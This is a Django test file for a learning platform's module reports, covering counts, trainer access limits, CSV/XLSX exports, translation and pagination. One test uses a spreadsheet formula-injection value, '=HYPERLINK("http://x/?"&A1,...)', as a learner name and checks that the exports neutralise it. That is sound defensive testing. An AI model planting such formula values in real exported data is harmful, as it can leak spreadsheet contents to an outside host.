"""Reports per module: figures, breakdowns, exports, and trainers limited to their modules."""

import csv
import datetime
import io

import pytest
from django.test import Client
from django.utils import translation
from openpyxl import load_workbook

from courses.services import enrolment_create
from lessons.reports import LEARNER_STATES
from lessons.services import progress_mark_viewed, quiz_attempt_start, quiz_attempt_submit
from tests.courses.factories import correct_answers, lessons_of, make_course, make_quiz
from tests.factories import UserFactory
from vocabulary.models import Person

pytestmark = pytest.mark.django_db


@pytest.fixture
def module(homes):
    quiz = make_quiz()
    course = make_course(slug="report", lessons=2, quiz=quiz, revisions=False)
    done = UserFactory(full_name="أمينة", province="safi", gender="female", category="elected")
    started = UserFactory(full_name="يوسف", province="marrakech", gender="male", category="staff")
    UserFactory(full_name="غير مسجل")
    for user in (done, started):
        enrolment_create(user=user, course=course)
    first, last = lessons_of(course)
    progress_mark_viewed(user=done, lesson=first, course_id=course.pk)
    attempt = quiz_attempt_start(user=done, quiz=quiz, lesson=last, course_id=course.pk)
    quiz_attempt_submit(attempt=attempt, user=done, data=correct_answers(attempt))
    progress_mark_viewed(user=started, lesson=first, course_id=course.pk)
    return course


def test_report_figures_and_breakdowns(module):
    """The report counts enrolled, in progress and completed learners, with province and gender tables."""
    client = Client()
    client.force_login(UserFactory(is_staff=True, is_superuser=True))
    html = client.get(f"/reports/{module.pk}/").content.decode()
    assert "<strong>2</strong>" in html  # enrolled
    # score distribution, the learners, then province, category and gender
    assert html.count('<table class="data-table') == 5
    assert "آسفي" in html or "Safi" in html


def test_trainer_sees_only_attached_modules(module, homes):
    """A trainer attached to a module reads its report; another module's report is 404; a learner is refused."""
    trainer_user = UserFactory(is_staff=True)
    trainer = Person.objects.create(name_fr="Karim", user=trainer_user)
    module.trainers.add(trainer)
    module.save()
    other = make_course(slug="other-report", revisions=False)
    client = Client()
    client.force_login(trainer_user)
    assert client.get(f"/reports/{module.pk}/").status_code == 200
    assert client.get(f"/reports/{other.pk}/").status_code == 404
    index = client.get("/reports/").content.decode()
    assert f"/reports/{module.pk}/" in index and f"/reports/{other.pk}/" not in index
    learner = Client()
    learner.force_login(UserFactory())
    assert learner.get(f"/reports/{module.pk}/").status_code == 404


def test_csv_and_xlsx_exports(module):
    """CSV (UTF-8 with BOM) and XLSX list every enrolled learner with status and best score."""
    client = Client()
    client.force_login(UserFactory(is_staff=True, is_superuser=True))
    response = client.get(f"/reports/{module.pk}/export.csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert len(rows) == 3
    by_name = {row[0]: row for row in rows[1:]}
    with translation.override("ar"):
        completed, in_progress = (str(dict(LEARNER_STATES)[state]) for state in ("completed", "in_progress"))
    assert by_name["أمينة"][5] == completed and by_name["أمينة"][8] == "100"
    assert by_name["يوسف"][5] == in_progress
    response = client.get(f"/reports/{module.pk}/export.xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet.max_row == 3 and {sheet.cell(row=r, column=1).value for r in (2, 3)} == {"أمينة", "يوسف"}
    assert client.get(f"/reports/{module.pk}/export.pdf").status_code == 404


HOSTILE = '=HYPERLINK("http://x/?"&A1,"click")'


def test_exports_defuse_a_hostile_learner_name_and_translate_headers(module):
    """A learner whose name is a formula comes out as text: prefixed in the CSV, a string cell (not a
    formula) in the XLSX; the CSV has a BOM and the headers follow the language of the address."""
    enrolment_create(user=UserFactory(full_name=HOSTILE), course=module)
    client = Client()
    client.force_login(UserFactory(is_staff=True, is_superuser=True))
    response = client.get(f"/reports/{module.pk}/export.csv")
    assert response.content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0][:2] == ["الاسم", "البريد الإلكتروني"]
    assert "'" + HOSTILE in [row[0] for row in rows]
    french = list(csv.reader(io.StringIO(client.get(f"/fr/reports/{module.pk}/export.csv").content.decode("utf-8-sig"))))
    assert french[0][:2] == ["Nom", "E-mail"]
    sheet = load_workbook(io.BytesIO(client.get(f"/reports/{module.pk}/export.xlsx").content)).active
    assert [c.value for c in sheet[1]][:2] == ["الاسم", "البريد الإلكتروني"] and sheet.sheet_view.rightToLeft
    cell = next(row[0] for row in sheet.iter_rows(min_row=2) if row[0].value == HOSTILE)
    assert cell.data_type == "s"
    assert isinstance(sheet.cell(row=2, column=10).value, datetime.datetime)  # enrolled at: a real date
    french_sheet = load_workbook(io.BytesIO(client.get(f"/fr/reports/{module.pk}/export.xlsx").content)).active
    assert french_sheet.cell(row=1, column=1).value == "Nom" and not french_sheet.sheet_view.rightToLeft


def test_the_index_has_one_entry_per_module_with_headline_figures(module, homes):
    """A module and its French translation are one entry (linking the page in the visitor's
    language), with its enrolled, in progress and completed figures, and no "(ar)"/"(fr)" marks."""
    from demo.pages import ensure_translation

    french = ensure_translation(module, "fr", title="Module rapport", slug="report")
    client = Client()
    client.force_login(UserFactory(is_staff=True, is_superuser=True))
    arabic_index = client.get("/reports/").content.decode()
    assert f'href="/reports/{module.pk}/"' in arabic_index and f"/reports/{french.pk}/" not in arabic_index
    assert "(fr)" not in arabic_index and "(ar)" not in arabic_index
    card = arabic_index.split(f'href="/reports/{module.pk}/"')[1].split("</li>\n    </ul>")[0]
    assert "<strong>2</strong>" in card  # enrolled
    french_index = client.get("/fr/reports/").content.decode()
    assert f'href="/fr/reports/{french.pk}/"' in french_index and f"/reports/{module.pk}/" not in french_index


def test_the_learner_table_is_paginated_and_stacks_on_a_phone(module):
    """The report lists its learners 25 a page (an absurd page number gives a page, never an error),
    each row labelled for the phone layout."""
    for n in range(30):
        enrolment_create(user=UserFactory(full_name=f"متعلم {n:02d}"), course=module)
    client = Client()
    client.force_login(UserFactory(is_staff=True, is_superuser=True))
    first = client.get(f"/reports/{module.pk}/").content.decode()
    table = first.split('id="learners-title"')[1].split("</table>")[0]
    assert table.count("<tr>") == 26  # header + 25
    assert 'class="data-table data-table--stack"' in first and 'data-label="' in table
    second = client.get(f"/reports/{module.pk}/?page=2").content.decode()
    assert second.split('id="learners-title"')[1].split("</table>")[0].count("<tr>") == 1 + 32 - 25
    assert client.get(f"/reports/{module.pk}/?page=٣").status_code == 200
    assert client.get(f"/reports/{module.pk}/?page=99999999999999999999999").status_code == 200
